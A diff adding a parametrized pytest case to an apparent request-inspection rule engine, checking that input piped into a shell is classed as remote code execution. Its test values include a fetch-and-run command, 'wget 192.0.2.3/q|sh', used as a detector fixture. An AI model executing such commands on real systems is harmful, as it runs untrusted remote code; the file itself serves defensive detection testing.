@@ -196,3 +196,11 @@ def test_what_is_remembered_of_texts_changes_no_answer() -> None:
     engine = Engine(shipped_rules())
     first = [engine.assess(request).findings for request in requests]
     assert [engine.assess(request).findings for request in reversed(requests)] == first[::-1]
+
+
+@pytest.mark.parametrize(
+    ("value", "is_alert"), [("wget 192.0.2.3/q|sh", True), ("terms|bash", True), ("bash", False), ("a | b", False)]
+)
+def test_what_is_given_to_a_shell_at_the_end_is_a_command(value: str, is_alert: bool) -> None:
+    found = shipped_engine().assess({"method": "POST", "uri": "/run", "headers": BROWSER, "body": f"text={value}"})
+    assert ("rce" in found.classes) is is_alert
